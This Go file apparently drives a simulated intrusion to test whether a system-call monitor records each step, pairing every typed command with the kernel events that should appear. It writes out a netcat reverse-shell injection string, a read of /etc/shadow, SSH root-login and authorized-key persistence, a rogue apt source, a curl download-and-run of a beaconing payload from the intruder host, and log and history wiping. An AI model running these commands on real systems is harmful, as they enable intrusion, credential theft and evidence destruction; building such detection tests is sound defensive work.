//go:build linux

package main

import (
	"strings"
	"time"
)

// step is one thing that the intruder types.
type step struct {
	act   string        // what it is for, in one word or two: the same for related steps
	pause time.Duration // before it, as a person takes
	send  string        // the line, with {NAME} of [stage.names]
	deeds []deed        // what of it the kernel must see
}

// deed is a system call that proves a step: a live source that misses one has
// missed the step.
type deed struct {
	call string // as strace names it; "dup2" also stands for dup3
	what string // part of the path, the program or the address
	mode deedMode
}

// deedMode narrows what counts.
type deedMode int

const (
	anyMode deedMode = iota
	writes           // opened for writing
)

// reverseShell is what the intruder makes the service run.
const reverseShell = "0; nc.traditional -e /bin/bash {intruder} {shell-port}; echo "

// entryDeeds prove the reverse shell itself.
var entryDeeds = []deed{
	{"execve", "/bin/sh", anyMode},
	{"execve", "nc.traditional", anyMode},
	{"connect", "{intruder}:{shell-port}", anyMode},
	{"dup2", "{intruder}:{shell-port}", anyMode},
	{"execve", "/bin/bash", anyMode},
}

// story is the incident from the first command of the shell on. Steps before
// the terminal run on the bare connection.
var story = []step{
	{"recon", 2500 * time.Millisecond, "id", []deed{{"execve", "/usr/bin/id", anyMode}}},
	{"recon", 1200 * time.Millisecond, "whoami", []deed{{"execve", "/usr/bin/whoami", anyMode}}},
	{"recon", 1500 * time.Millisecond, "uname -a", []deed{{"execve", "/usr/bin/uname", anyMode}}},
	{"recon", 1800 * time.Millisecond, "cat /etc/passwd", []deed{{"openat", "/etc/passwd", anyMode}}},
	{"recon", 2200 * time.Millisecond, "cat /etc/shadow", []deed{{"openat", "/etc/shadow", anyMode}}},
	{"terminal", 2500 * time.Millisecond, "script -qc /bin/bash /dev/null", []deed{
		{"execve", "/usr/bin/script", anyMode}, {"openat", "/dev/ptmx", anyMode},
	}},
	{"recon", 1500 * time.Millisecond, "ps aux", []deed{{"execve", "/usr/bin/ps", anyMode}}},
	{"recon", 1800 * time.Millisecond, "ls -la /root /home /var/lib/shop", []deed{{"execve", "/usr/bin/ls", anyMode}}},
	{"scan", 3000 * time.Millisecond, "nmap -n -Pn -sT -p 1-1024,3000-9999 127.0.0.1", []deed{
		{"execve", "/usr/bin/nmap", anyMode}, {"connect", "127.0.0.1:22", anyMode},
	}},
	{"persistence", 3500 * time.Millisecond, "sed -i 's/^PermitRootLogin no/PermitRootLogin yes/' /etc/ssh/sshd_config", []deed{
		{"openat", "/etc/ssh/sed", writes}, {"rename", "/etc/ssh/sshd_config", anyMode},
	}},
	{"persistence", 1500 * time.Millisecond, "grep PermitRootLogin /etc/ssh/sshd_config", []deed{{"execve", "/usr/bin/grep", anyMode}}},
	{"persistence", 3000 * time.Millisecond, "mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDemoDemoDemoDemoDemoDemoDemoDemoDemoDemoDemo guest' >> /root/.ssh/authorized_keys", []deed{
		{"mkdir", ".ssh", anyMode}, {"openat", "/root/.ssh/authorized_keys", writes},
	}},
	{"repository", 3500 * time.Millisecond, "echo 'deb [trusted=yes] http://{intruder}:{file-port}/debian stable main' > /etc/apt/sources.list.d/updates.list", []deed{
		{"openat", "/etc/apt/sources.list.d/updates.list", writes},
	}},
	{"tool", 3000 * time.Millisecond, "mkdir -p /tmp/.cache && curl -fsS -o /tmp/.cache/updater http://{intruder}:{file-port}/updater", []deed{
		{"execve", "/usr/bin/curl", anyMode},
		{"connect", "{intruder}:{file-port}", anyMode},
		{"openat", "/tmp/.cache/updater", writes},
	}},
	{"tool", 1500 * time.Millisecond, "chmod +x /tmp/.cache/updater", []deed{{"fchmodat", "/tmp/.cache/updater", anyMode}}},
	{"tool", 2000 * time.Millisecond, "/tmp/.cache/updater {intruder} {beacon-port} 6 &", []deed{
		{"execve", "/tmp/.cache/updater", anyMode}, {"connect", "{intruder}:{beacon-port}", anyMode},
	}},
	{"cleaning", 4000 * time.Millisecond, "ls -la /var/log /var/log/shop", []deed{{"openat", "/var/log", anyMode}}},
	{"cleaning", 2000 * time.Millisecond, ": > /var/log/auth.log", []deed{{"openat", "/var/log/auth.log", writes}}},
	{"cleaning", 1800 * time.Millisecond, "rm -f /var/log/shop/access.log /var/log/shop/jobs.log", []deed{
		{"unlinkat", "/var/log/shop/access.log", anyMode},
	}},
	{"cleaning", 1500 * time.Millisecond, "rm -f /root/.bash_history; unset HISTFILE", []deed{{"unlinkat", "/root/.bash_history", anyMode}}},
	{"leaving", 2500 * time.Millisecond, "exit", nil},
	{"leaving", 1000 * time.Millisecond, "exit", nil},
}

// terminalAct is the act after which there is a prompt to wait for.
const terminalAct = "terminal"

// fill puts addresses and ports into a text.
func fill(text string, names map[string]string) string {
	for name, value := range names {
		text = strings.ReplaceAll(text, "{"+name+"}", value)
	}
	return text
}
